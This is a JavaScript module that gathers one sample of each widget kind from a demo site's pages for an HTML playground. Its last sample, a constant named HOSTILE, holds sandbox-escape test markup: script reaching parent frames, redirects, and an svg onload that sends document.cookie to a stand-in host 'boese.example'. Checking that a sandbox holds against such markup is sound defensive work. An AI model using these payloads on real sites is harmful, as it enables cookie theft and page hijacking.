/**
 * Collects samples of widgets for the playground: the first widget of each kind on the demo's pages, so that there is
 * no second list to maintain.
 */
import { tokenize } from '../saved/tokens.mjs';

/** Widgets that are only text or static markup are no useful samples. */
const PLAIN = new Set([
  'html',
  'text-editor',
  'heading',
  'image',
  'button',
  'theme-site-logo',
  'icon',
  'divider',
  'spacer',
]);
/** The maximum length of a sample, characters; longer ones are hard to read in the field. */
const MAX_LENGTH = 20_000;
const VOID = new Set([
  'area',
  'base',
  'br',
  'col',
  'embed',
  'hr',
  'img',
  'input',
  'link',
  'meta',
  'source',
  'track',
  'wbr',
]);

/** Returns the position of the end of the element that begins with piece `at`. */
function endOf(pieces, at) {
  let depth = 0;
  for (const { kind, name, end } of pieces.slice(at)) {
    if (kind === 'start' && !VOID.has(name)) depth += 1;
    if (kind === 'end' && !VOID.has(name)) depth -= 1;
    if (depth === 0 && kind === 'end') return end;
  }
  return undefined;
}

const attributeOf = ({ attributes }, wanted) => attributes.find(({ name }) => name === wanted)?.value ?? '';

/** Removes the indentation that all lines after the first have in common. */
function dedent(html) {
  const lines = html.split('\n');
  const indent = Math.min(
    ...lines
      .slice(1)
      .filter((line) => line.trim())
      .map((line) => /^ */.exec(line)[0].length),
    99,
  );
  return lines.map((line, at) => (at ? line.slice(indent) : line)).join('\n');
}

/**
 * @param {string} html a page
 * @returns {Map<string, string>} the HTML of one widget of each kind, by kind
 */
export function samplesOf(html) {
  const pieces = tokenize(html);
  const found = new Map();
  for (const [at, piece] of pieces.entries()) {
    if (piece.kind !== 'start') continue;
    const name = attributeOf(piece, 'data-widget_type').split('.')[0];
    if (!name || PLAIN.has(name) || found.has(name)) continue;
    const end = endOf(pieces, at);
    if (end && end - piece.start < MAX_LENGTH) found.set(name, dedent(html.slice(piece.start, end)));
  }
  return found;
}

/** Tries to escape from the playground in common ways of attackers. */
const HOSTILE = `<script>document.title = 'ausgebrochen'; parent.document.title = 'ausgebrochen'</script>
<img src="x" onerror="top.location = 'https://boese.example/'">
<svg onload="fetch('https://boese.example/' + document.cookie)"></svg>
<iframe srcdoc="<script>parent.parent.alert(1)</script>"></iframe>
<form action="https://boese.example/"><button>Abschicken</button></form>
<base href="https://boese.example/">
<meta http-equiv="refresh" content="0; url=https://boese.example/">
<div class="elementor-element elementor-widget elementor-widget-alert" data-id="a1b2c3d" data-element_type="widget" data-widget_type="alert.default">
  <div class="elementor-alert" role="alert"><span class="elementor-alert-title">Ein Hinweis lebt trotzdem</span>
  <button type="button" class="elementor-alert-dismiss" aria-label="Hinweis schließen">×</button></div>
</div>`;

/**
 * @param {{ path: string }[]} pages of the demo
 * @param {(page: object) => Promise<string>} print
 * @returns {Promise<{ name: string, html: string }[]>} sorted by name
 */
export async function collectSamples(pages, print) {
  const printed = await Promise.all(pages.map(print));
  const all = new Map();
  for (const html of printed)
    for (const [name, sample] of samplesOf(html)) if (!all.has(name)) all.set(name, sample);
  const samples = [...all].map(([name, html]) => ({ name, html })).sort((a, b) => (a.name < b.name ? -1 : 1));
  return [...samples, { name: 'Feindliches Markup, zum Prüfen', html: HOSTILE }];
}
